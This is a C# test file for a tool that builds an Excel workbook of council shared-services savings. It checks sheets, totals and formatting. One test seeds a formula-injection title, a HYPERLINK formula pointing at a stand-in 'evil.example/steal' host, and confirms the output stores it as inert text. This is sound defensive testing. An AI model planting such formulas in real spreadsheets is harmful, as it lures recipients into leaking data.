using System.Globalization;
using ClosedXML.Excel;
using SharedServicesPipeline.Publishing;
using SharedServicesPipeline.Tests.Support;

namespace SharedServicesPipeline.Tests.Extracts;

public sealed class CompendiumWorkbookTests
{
    [Fact]
    public async Task Compendium_has_a_summary_all_arrangements_and_one_sheet_per_region_with_savings_that_add_up()
    {
        await using var mart = await TestMart.CreateAsync();
        var watermark = await mart.QueryAsync(ExtractsMartSeed.SeedAsync);
        var refresh = await mart.RefreshAsync();
        var run = PublishedRun.Latest(mart.ExtractsPath);
        Assert.True(run.File(CompendiumWorkbook.FileName).Bytes > 0);

        using var workbook = new XLWorkbook(run.PathOf(CompendiumWorkbook.FileName));
        Assert.Equal(
            ["Summary", "All arrangements", "East Midlands", "East of England", "Other", "South East", "South West", "Wales"],
            workbook.Worksheets.Select(w => w.Name));

        var facts = ExtractCsv.Read(run.PathOf("fact_arrangement.csv"));
        var annual = facts.Sum(f => Money(f["annual_savings_gbp"]));
        var toDate = facts.Sum(f => Money(f["savings_to_date_gbp"]));
        Assert.Equal(9_718_457.28m, annual);
        Assert.Equal(1_760_000m, toDate);

        var summary = workbook.Worksheet("Summary");
        var figures = Enumerable.Range(4, 10).ToDictionary(r => summary.Cell(r, 1).GetString(), r => summary.Cell(r, 2));
        Assert.Equal(6, figures["Arrangements"].GetValue<int>());
        Assert.Equal(8, figures["Councils sharing"].GetValue<int>()); // Wiltshire Police and the national body are not councils
        Assert.Equal(annual, figures["Annual savings (£)"].GetValue<decimal>());
        Assert.Equal(toDate, figures["Savings to date (£)"].GetValue<decimal>());
        Assert.Equal(refresh.StartedAt.UtcDateTime, figures["Refreshed (UTC)"].GetDateTime(), TimeSpan.FromSeconds(1));
        Assert.Equal(watermark, figures["Latest submission"].GetString());

        var all = workbook.Worksheet("All arrangements");
        var allRows = DataRows(all);
        Assert.Equal(6, allRows.Count);
        Assert.Equal(annual, allRows.Sum(r => Money(r["Annual savings (£)"])));
        var chiefExec = Assert.Single(allRows, r => r["Arrangement"] == "Breckland and South Holland shared chief executive");
        Assert.Equal("Breckland District Council; South Holland District Council", chiefExec["Partners"]);
        Assert.Equal(("Shared chief executive", "Management", "East Midlands; East of England", "Breckland District Council"),
            (chiefExec["Service area"], chiefExec["Category"], chiefExec["Region(s)"], chiefExec["Lead authority"]));
        Assert.Equal(new DateTime(2010, 8, 1), all.Cell(RowOf(all, "Breckland and South Holland shared chief executive"), 7).GetDateTime());

        // The South West sheet holds the arrangements with a partner there, and its own total.
        var southWest = DataRows(workbook.Worksheet("South West"));
        Assert.Equal(["'" + ExtractsMartSeed.MaliciousTitle, "Wiltshire community safety partnership"], southWest.Select(r => r["Arrangement"]).Order(StringComparer.Ordinal));
        Assert.Equal(123_456.78m, southWest.Sum(r => Money(r["Annual savings (£)"])));
        var wales = Assert.Single(DataRows(workbook.Worksheet("Wales")));
        Assert.Equal("Powys and Breckland ICT", wales["Arrangement"]);
        Assert.Equal("East of England; Wales", wales["Region(s)"]);
    }

    [Fact]
    public async Task Arrangement_sheets_are_excel_tables_with_frozen_headers_filters_explicit_widths_and_savings_totals()
    {
        await using var mart = await TestMart.CreateAsync();
        await mart.QueryAsync(ExtractsMartSeed.SeedAsync);
        await mart.RefreshAsync();

        using var workbook = new XLWorkbook(PublishedRun.Latest(mart.ExtractsPath).PathOf(CompendiumWorkbook.FileName));
        foreach (var sheet in workbook.Worksheets.Where(w => w.Name != "Summary"))
        {
            var table = Assert.Single(sheet.Tables);
            Assert.True(table.ShowAutoFilter, sheet.Name);
            Assert.True(table.ShowTotalsRow, sheet.Name);
            Assert.Equal(1, sheet.SheetView.SplitRow);
            var totals = table.TotalsRow();
            Assert.Equal($"SUBTOTAL(109,{table.Name}[Annual savings (£)])", totals.Cell(11).FormulaA1);
            Assert.Equal($"SUBTOTAL(109,{table.Name}[Savings to date (£)])", totals.Cell(12).FormulaA1);
            Assert.Equal(48, sheet.Column(1).Width, 0.5);
            Assert.Equal(60, sheet.Column(2).Width, 0.5);
        }
    }

    [Fact]
    public async Task Compendium_neutralises_titles_that_a_spreadsheet_would_run_as_formulas()
    {
        await using var mart = await TestMart.CreateAsync();
        await mart.QueryAsync(ExtractsMartSeed.SeedAsync);
        await mart.RefreshAsync();

        using var workbook = new XLWorkbook(PublishedRun.Latest(mart.ExtractsPath).PathOf(CompendiumWorkbook.FileName));
        var all = workbook.Worksheet("All arrangements");
        var hyperlink = all.Cell(RowOf(all, "'" + ExtractsMartSeed.MaliciousTitle), 1);
        Assert.False(hyperlink.HasFormula);
        Assert.Equal(XLDataType.Text, hyperlink.DataType);
        Assert.Equal("'=HYPERLINK(\"http://evil.example/steal\",\"Click for savings\")", hyperlink.GetString());
        Assert.Equal("'" + ExtractsMartSeed.PlusTitle, all.Cell(RowOf(all, "'" + ExtractsMartSeed.PlusTitle), 1).GetString());

        // Only the tables' totals are formulas, and no text anywhere starts with a formula character.
        foreach (var cell in workbook.Worksheets.SelectMany(w => w.CellsUsed()))
        {
            if (cell.HasFormula)
            {
                Assert.StartsWith("SUBTOTAL(109,", cell.FormulaA1, StringComparison.Ordinal);
                continue;
            }

            if (cell.DataType == XLDataType.Text && cell.GetString() is { Length: > 0 } text)
            {
                Assert.False(text[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"{cell.Worksheet.Name}!{cell.Address}: {text}");
            }
        }
    }

    [Fact]
    public async Task Compendium_of_an_empty_mart_still_opens_with_zero_figures()
    {
        var files = await new CompendiumWorkbook().BuildAsync([], new PublishContext("run-1", new DateTimeOffset(2026, 11, 28, 2, 0, 0, TimeSpan.Zero), null), CancellationToken.None);

        using var workbook = new XLWorkbook(new MemoryStream(Assert.Single(files).Content.ToArray()));
        Assert.Equal(["Summary", "All arrangements"], workbook.Worksheets.Select(w => w.Name));
        Assert.Equal(0, workbook.Worksheet("Summary").Cell(4, 2).GetValue<int>());
        Assert.Equal("none yet", workbook.Worksheet("Summary").Cell(12, 2).GetString());
    }

    [Fact]
    public async Task Compendium_is_a_valid_open_xml_package_that_excel_opens_without_repairs()
    {
        await using var mart = await TestMart.CreateAsync();
        await mart.QueryAsync(ExtractsMartSeed.SeedAsync);
        await mart.RefreshAsync();

        using var document = DocumentFormat.OpenXml.Packaging.SpreadsheetDocument.Open(PublishedRun.Latest(mart.ExtractsPath).PathOf(CompendiumWorkbook.FileName), isEditable: false);
        var errors = new DocumentFormat.OpenXml.Validation.OpenXmlValidator(DocumentFormat.OpenXml.FileFormatVersions.Office2016).Validate(document)
            .Select(e => $"{e.Part?.Uri} {e.Path?.XPath}: {e.Description}")
            .ToList();

        Assert.Empty(errors);
        Assert.Equal(8, document.WorkbookPart!.WorksheetParts.Sum(w => w.TableDefinitionParts.Count()));
    }

    [Fact]
    public async Task Compendium_drops_characters_xml_cannot_carry_and_keeps_the_rest_of_the_title()
    {
        const string title = "Shared\u0001 legal\u000B service 🚀";
        await using var mart = await TestMart.CreateAsync();
        await mart.QueryAsync(ExtractsMartSeed.SeedAsync);
        await mart.QueryAsync(async db =>
        {
            var fact = await Microsoft.EntityFrameworkCore.EntityFrameworkQueryableExtensions.FirstAsync(db.Arrangements);
            fact.Title = title;
            return await db.SaveChangesAsync();
        });
        await mart.RefreshAsync();

        using var workbook = new XLWorkbook(PublishedRun.Latest(mart.ExtractsPath).PathOf(CompendiumWorkbook.FileName));
        var all = workbook.Worksheet("All arrangements");
        Assert.Equal("Shared legal service 🚀", all.Cell(RowOf(all, "Shared legal service 🚀"), 1).GetString());
    }

    private static decimal Money(string text) => text.Length == 0 ? 0 : decimal.Parse(text, CultureInfo.InvariantCulture);

    private static int RowOf(IXLWorksheet sheet, string title) =>
        sheet.Column(1).CellsUsed().Single(c => c.GetString() == title).Address.RowNumber;

    /// <summary>The data rows of the sheet's table (not the header or totals), keyed by header.</summary>
    private static List<Dictionary<string, string>> DataRows(IXLWorksheet sheet)
    {
        var table = Assert.Single(sheet.Tables);
        var headers = table.HeadersRow().Cells().Select(c => c.GetString()).ToList();
        return [.. table.DataRange.Rows()
            .Where(r => !r.Cell(1).IsEmpty())
            .Select(r => headers.Select((h, i) => (Header: h, Value: Text(r.Cell(i + 1)))).ToDictionary(x => x.Header, x => x.Value))];
    }

    private static string Text(IXLCell cell) =>
        cell.DataType == XLDataType.Number ? cell.GetValue<decimal>().ToString(CultureInfo.InvariantCulture) : cell.GetString();
}
